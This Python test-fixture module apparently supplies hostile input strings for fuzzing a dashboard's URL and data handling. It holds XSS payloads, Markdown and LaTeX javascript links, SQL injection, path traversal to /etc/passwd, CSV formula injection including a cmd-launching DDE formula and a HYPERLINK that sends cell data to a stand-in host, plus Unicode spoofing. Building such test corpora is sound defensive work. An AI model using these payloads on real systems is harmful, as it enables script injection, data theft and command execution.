"""The hostile text corpus shared by the URL and data tests.

``TEXT_PAYLOADS`` are templates: ``{m}`` is replaced by a unique marker (``ZQ001`` ...) so a test
can tell which payload reached which page. Scripts set ``window.__pwned`` (a canary that must
stay undefined) or call ``alert`` (a dialog that must never open); remote references point at
``canary.invalid`` (a request that must never leave the machine).
"""

from __future__ import annotations

LONG = 10_000
CANARY_HOST = "canary.invalid"
EVIL_HOST = "evil.invalid"

TEXT_PAYLOADS: list[str] = [
    # script execution
    "<script>window.__pwned=1;alert(1)</script>{m}",
    '<img src=x onerror="window.__pwned=2;alert(2)">{m}',
    "<img src=x onerror=alert(1)>{m}",
    '"><svg onload="window.__pwned=4">{m}',
    "'><svg/onload=window.__pwned=5>{m}",
    '<iframe src="javascript:window.__pwned=6"></iframe>{m}',
    '<a href="javascript:window.__pwned=7">click {m}</a>',
    '<object data="javascript:window.__pwned=8"></object>{m}',
    "<svg><script>window.__pwned=9</script></svg>{m}",
    '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=10">{m}',
    '<details open ontoggle="window.__pwned=11">{m}</details>',
    '<body onload="window.__pwned=12">{m}',
    '<input autofocus onfocus="window.__pwned=13">{m}',
    '<a xlink:href="javascript:window.__pwned=14">{m}</a>',
    "javascript:window.__pwned=15//{m}",
    "data:text/html,<script>window.__pwned=16</script>{m}",
    "<style>body{display:none}</style>{m}",
    '<meta http-equiv="refresh" content="0;url=https://evil.invalid">{m}',
    # links and styles that Plotly's pseudo-HTML or Markdown would honour
    '<a href="https://evil.invalid/phish">{m} official source</a>',
    "<a href='https://evil.invalid' target=_blank>{m}</a>",
    '<a href="//evil.invalid">{m}</a>',
    '<a href="mailto:x@evil.invalid">{m}</a>',
    '<span style="color:red;font-size:90px;position:fixed;top:0">{m} OFFICIAL</span>',
    "<b>bold</b><i>it</i><br>{m}<sup>2</sup>",
    "<sub>x</sub><s>strike</s><u>u</u> {m}",
    "{m} <br> line<br/>break",
    # Markdown links, images and directives
    "[{m} click](javascript:window.__pwned=27)",
    "[{m}](javascript:alert(1))",
    "[{m}](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[{m}](vbscript:msgbox(1))",
    "![{m}](http://canary.invalid/p.png)",
    "![](http://canary.invalid/p.png) {m}",
    '<img src="http://canary.invalid/img.png"> {m}',
    "<link rel=stylesheet href=http://canary.invalid/x.css>{m}",
    ":red[{m} ALERT] :blue-background[fake]",
    ":material/warning: {m}",
    "# Heading {m}",
    "**bold** _it_ ~~del~~ `code` {m}",
    "> quote\n- list {m}",
    "<!-- comment --> {m}",
    # LaTeX and dollar amounts
    "$x^2$ {m}",
    "$\\href{javascript:window.__pwned=42}{{m}}$",
    "$$\\href{javascript:alert(1)}{x}$$ {m}",
    "\\(\\href{javascript:alert(1)}{x}\\) {m}",
    "US$5m and $3bn {m}",
    "USD 5 m for $ 1 and $2 {m}",
    # Plotly template and other injections
    "%{y} %{customdata[0]} %{x|%Y} {m}",
    "{{7*7}} ${7*7} {m}",
    "' OR '1'='1 -- {m}",
    "../../../etc/passwd {m}",
    "&lt;script&gt; &amp; &#36; {m}",
    "%3Cscript%3Ealert(1)%3C/script%3E {m}",
    # Unicode
    "\u202e{m} gnp.exe",
    "\u0645\u0631\u062d\u0628\u0627 {m} \u05e9\u05dc\u05d5\u05dd",
    "\u200b\u200d\ufeff{m}\u2060",
    "\U0001f600\U0001f1f5\U0001f1f0 emoji {m}",
    "\x1b[31mANSI {m}\x1b[0m",
    # CSV formula starts (OWASP), including the known bypasses
    '=HYPERLINK("http://evil.invalid/?x="&A1,"{m} click")',
    "=1+2 {m}",
    "+1+2 {m}",
    "-2+3 {m}",
    "@SUM(1+1) {m}",
    "\t=1+2 {m}",
    "\r=1+2 {m}",
    " =1+2 {m}",
    "\u00a0=1+2 {m}",
    "ok {m}\n=1+2",
    "=cmd|' /C calc'!A0 {m}",
    # 10,000-character strings
    "{m} " + "A" * (LONG - 6),
    "{m} " + "<b>x</b>" * ((LONG - 6) // 8),
]

# Pattern-valid URLs (sources.csv url must match ^https?://) that carry payloads.
URL_PAYLOADS: list[str] = [
    'https://canary.invalid/{m}?"><img src=x onerror="window.__pwned=90">',
    "https://canary.invalid/{m}#javascript:alert(1)",
    "https://canary.invalid/{m}/<script>window.__pwned=92</script>",
    "http://canary.invalid/{m}.png",
]

DOLLAR_TEXT = "US$5m and $3bn"


def marker(i: int) -> str:
    return f"ZQ{i:03d}"


def rendered(templates: list[str], offset: int = 0) -> list[tuple[str, str]]:
    """(marker, payload) pairs with each template's ``{m}`` replaced by its marker."""
    return [(marker(offset + i), t.replace("{m}", marker(offset + i))) for i, t in enumerate(templates)]


def all_payloads() -> list[tuple[str, str]]:
    """Every text and URL payload with its marker (text first, then URL payloads)."""
    return rendered(TEXT_PAYLOADS) + rendered(URL_PAYLOADS, offset=len(TEXT_PAYLOADS))


# Plain hostile strings (no markers) for the URL fuzzing.
def url_strings() -> list[str]:
    return [payload for _, payload in rendered(TEXT_PAYLOADS)] + [
        "<script>alert(document.domain)</script>",
        "<img src=x onerror=alert(1)>",
        "javascript:alert(1)",
        "[x](javascript:alert(1))",
        "![](http://canary.invalid/p.png)",
        "$\\href{javascript:alert(1)}{x}$",
        ":red[ALERT]",
        "",
        " ",
        "NaN",
        "nan",
        "inf",
        "-inf",
        "Infinity",
        "1e308",
        "-1e308",
        "-1",
        "0",
        "-0",
        "1",
        "2",
        "99999999999999999999999999",
        "0x41",
        "1_000",
        "None",
        "null",
        "undefined",
        "true ",
        "[]",
        "{}",
        "'; DROP TABLE financing; --",
        "1 OR 1=1",
        "%00",
        "\x00",
        "\x7f",
        "%s%s%s%n",
        "\\",
        "/",
        "?",
        "&",
        "#",
        "=",
        "+",
        "\u202eCIBJ",
        "\u0627\u0644\u0628\u0646\u0643",
        "\u05d1\u05e0\u05e7",
        "\ufffd",
        "\U0001f4b0",
        "J\u0301BIC",
        "\uff2a\uff22\uff29\uff23",
    ]
